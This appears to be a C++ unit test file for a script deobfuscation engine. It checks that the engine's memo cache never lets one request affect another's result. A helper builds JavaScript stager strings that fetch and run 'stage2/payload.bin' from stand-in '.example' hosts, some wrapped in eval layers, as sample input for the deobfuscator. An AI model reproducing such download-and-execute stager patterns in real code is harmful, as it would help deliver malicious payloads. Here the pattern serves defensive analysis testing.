// The piece memo's scope is one pipeline run. Nothing a request leaves
// behind in the engine may change another request's response: repeating a
// request (or a whole batch) on a warm engine gives the same result,
// failure and rung as the first time, and a script's output never depends
// on which scripts ran before it. Turning the memo off changes nothing
// either.

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "corpus/corpus.h"
#include "ideobf/api.h"

namespace {

using namespace ideobf;

void expect_same_response(const Response& a, const Response& b,
                          const std::string& what) {
  EXPECT_EQ(a.result, b.result) << what;
  EXPECT_STREQ(to_string(a.failure), to_string(b.failure)) << what;
  EXPECT_EQ(a.failure_detail, b.failure_detail) << what;
  EXPECT_EQ(a.report.degradation_rung, b.report.degradation_rung) << what;
}

std::vector<Request> corpus_requests(std::uint64_t seed, int n) {
  CorpusGenerator gen(seed);
  std::vector<Request> requests;
  for (const Sample& sample : gen.generate_batch(n)) {
    Request request;
    request.source = sample.obfuscated;
    requests.push_back(std::move(request));
  }
  return requests;
}

Request js_request(std::string source) {
  Request request;
  request.source = std::move(source);
  request.language = "javascript";
  return request;
}

std::string js_stager(const std::string& host) {
  return "var p='http://" + host +
         ".example/'; var u = p.concat('stage2/payload.bin'); run(u);";
}

TEST(MemoScope, RepeatedHandleIsIdenticalOnOneEngine) {
  const Engine engine;
  int failed = 0;
  for (const Request& request : corpus_requests(5, 40)) {
    const Response first = engine.handle(request);
    const Response second = engine.handle(request);
    expect_same_response(first, second, request.source);
    if (first.failure != FailureKind::None) ++failed;
  }
  // A memo hit on a failed piece carries no failure kind, so the corpus
  // must contain failures for the comparison to have teeth.
  EXPECT_GT(failed, 0);
}

TEST(MemoScope, RepeatedBatchIsIdenticalOnOneEngine) {
  Options options;
  options.threads = 4;
  const Engine engine(options);
  const std::vector<Request> requests = corpus_requests(21, 300);
  const std::vector<Response> first = engine.handle_batch(requests);
  const std::vector<Response> second = engine.handle_batch(requests);
  ASSERT_EQ(first.size(), requests.size());
  ASSERT_EQ(second.size(), requests.size());
  int failed = 0;
  for (std::size_t i = 0; i < requests.size(); ++i) {
    expect_same_response(first[i], second[i], "item " + std::to_string(i));
    if (first[i].failure != FailureKind::None) ++failed;
  }
  EXPECT_GT(failed, 0);
}

TEST(MemoScope, BatchMatchesFreshEnginePerScript) {
  // Each item of a batch answers as if it had a fresh engine to itself.
  Options options;
  options.threads = 4;
  const Engine engine(options);
  const std::vector<Request> requests = corpus_requests(33, 60);
  const std::vector<Response> batch = engine.handle_batch(requests);
  ASSERT_EQ(batch.size(), requests.size());
  for (std::size_t i = 0; i < requests.size(); ++i) {
    const Response fresh = Engine{}.handle(requests[i]);
    expect_same_response(batch[i], fresh, "item " + std::to_string(i));
  }
}

TEST(MemoScope, RewrittenPieceAndItsVerbatimTwinMatchMemoOff) {
  // `Write-Output $n.Length` rewrites to the text of the verbatim
  // `Write-Output 42.Length`, so the two pieces share a memo key: each must
  // still be answered as its text evaluates, in either order.
  Options memo_off;
  memo_off.recovery.memo = false;
  for (const char* source :
       {"$n = 42; Write-Output $n.Length; Write-Output 42.Length",
        "$n = 42; Write-Output 42.Length; Write-Output $n.Length"}) {
    Request request;
    request.source = source;
    const Response with_memo = Engine{}.handle(request);
    const Response without_memo = Engine(memo_off).handle(request);
    expect_same_response(with_memo, without_memo, request.source);
    EXPECT_EQ(with_memo.result, "$n = 42\n'42.Length'\n'42.Length'\n");
  }
}

TEST(MemoScope, JsScriptsDoNotSeeEachOthersValues) {
  // Two stagers that differ only in the traced URL: the second must not be
  // answered with the first one's value.
  const Request alpha = js_request(js_stager("alpha"));
  const Request bravo = js_request(js_stager("bravo"));
  const Engine engine;
  (void)engine.handle(alpha);
  const Response after_alpha = engine.handle(bravo);
  const Response fresh = Engine{}.handle(bravo);
  expect_same_response(after_alpha, fresh, bravo.source);
  EXPECT_NE(after_alpha.result.find("bravo.example/stage2/payload.bin"),
            std::string::npos)
      << after_alpha.result;
  EXPECT_EQ(after_alpha.result.find("alpha"), std::string::npos)
      << after_alpha.result;
}

TEST(MemoScope, JsEvalLayersRebindingAVariableMatchMemoOff) {
  // Two eval layers of one script rebind `p`; each layer's call must fold
  // under its own binding.
  const Request layered = js_request("eval(\"" + js_stager("bravo") +
                                     "\");\neval(\"" + js_stager("charlie") +
                                     "\");\n");
  Options memo_off;
  memo_off.recovery.memo = false;
  const Response with_memo = Engine{}.handle(layered);
  const Response without_memo = Engine(memo_off).handle(layered);
  expect_same_response(with_memo, without_memo, layered.source);
  EXPECT_NE(with_memo.result.find("charlie.example/stage2/payload.bin"),
            std::string::npos)
      << with_memo.result;
}

}  // namespace
